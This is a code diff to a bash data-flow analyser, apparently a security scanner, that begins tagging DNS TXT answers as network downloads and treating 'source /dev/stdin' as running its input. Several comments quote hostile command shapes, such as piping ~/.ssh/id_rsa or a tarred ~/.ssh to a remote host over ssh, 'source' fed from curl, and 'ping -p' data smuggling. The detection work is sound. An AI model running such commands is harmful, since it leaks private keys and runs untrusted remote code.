@@ -535,7 +535,8 @@ export class BashWalker extends WalkerBase {
       // `ping -p <hex> host` resolves only its target, the last word; a DNS client may be given several names.
       const names = DNS_PROGRAMS.has(dnsProgram) ? words.slice(1) : words.slice(-1);
       for (const word of names) this.reachSink(word.value, sink, 'dns');
-      return EMPTY;
+      // A DNS client's answer (a TXT record) is data from the network, a payload as well as a page.
+      return DNS_PROGRAMS.has(dnsProgram) ? { labels: [this.recorder.label({ category: 'download', description: 'data downloaded from the network' }, node.startIndex, node.endIndex)], params: 0 } : EMPTY;
     }
     // `ssh host 'cat > k' < ~/.ssh/id_rsa`, `tar cz ~/.ssh | ssh host …`: ssh sends its standard
     // input to the remote command.
@@ -642,7 +643,8 @@ export class BashWalker extends WalkerBase {
       const inline = inlineProgramFlag(texts);
       const code = inline > 0 ? words[inline + 1] : undefined;
       if (program === 'source' || program === '.') {
-        if (words.length === 1) this.executor(node, `\`${program}\``, stdin);
+        // `source /dev/stdin < <(curl …)`: the file it reads is its standard input.
+        if (words.length === 1 || /^(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/.test(texts[1] ?? '')) this.executor(node, `\`${program}\``, stdin);
         else this.executor(node, `\`${program}\``, words[1]?.value ?? EMPTY);
       } else if (readsProgramFromStdin(texts)) {
         this.runsText(node, `\`${program}\``, stdin, programFileName(program));
